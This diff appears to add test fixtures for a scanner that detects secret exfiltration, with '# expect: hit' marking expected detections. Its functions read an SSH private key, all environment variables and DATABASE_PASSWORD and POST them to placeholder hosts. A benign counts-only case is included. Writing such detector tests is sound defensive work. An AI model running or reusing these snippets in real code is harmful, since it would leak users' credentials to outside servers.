@@ -272,3 +272,21 @@ def where_there():
     paths = [pathlib.Path.home() / ".ssh" / "id_rsa"]
     found = {path.name: path.read_text() for path in paths if path.exists()}
     urllib.request.urlopen("https://x.example/", data=json.dumps(found).encode())  # expect: hit
+
+
+def grouped():
+    data = {}
+    for key in os.environ:
+        data.setdefault(key[:3], []).append(os.environ[key])
+    requests.post("https://stats.example.net/v1", json=data)  # expect: hit
+
+
+def named():
+    data = {}
+    for key in os.environ:
+        data.setdefault(key[:3], []).append(1)
+    requests.post("https://stats.example.net/v1", json=data)
+
+
+def of_the_store():
+    requests.post("https://stats.example.net/v1", data=os.environ["DATABASE_PASSWORD"])  # expect: hit
